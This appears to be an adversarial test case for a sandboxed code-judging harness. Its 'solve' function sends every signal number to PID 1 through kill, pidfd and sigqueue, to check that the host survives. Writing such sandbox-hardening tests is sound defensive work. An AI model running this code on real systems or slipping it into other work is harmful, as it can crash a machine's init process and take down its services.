# attack: zygote_signals_to_init
# kind: function
# attempts: sends every signal to the first process of its namespace, by number, by pidfd and with data
# sound verdict: incorrect|runtime_error
# host must: the zygote stays alive
# NEVER run outside a sandbox.
import os, signal, ctypes
libc = ctypes.CDLL(None)
def solve(xs):
    fd = os.pidfd_open(1)
    for s in range(1, 65):
        for send in (lambda: os.kill(1, s), lambda: signal.pidfd_send_signal(fd, s)):
            try: send()
            except (OSError, ValueError): pass
        libc.sigqueue(1, s, None)
    return None
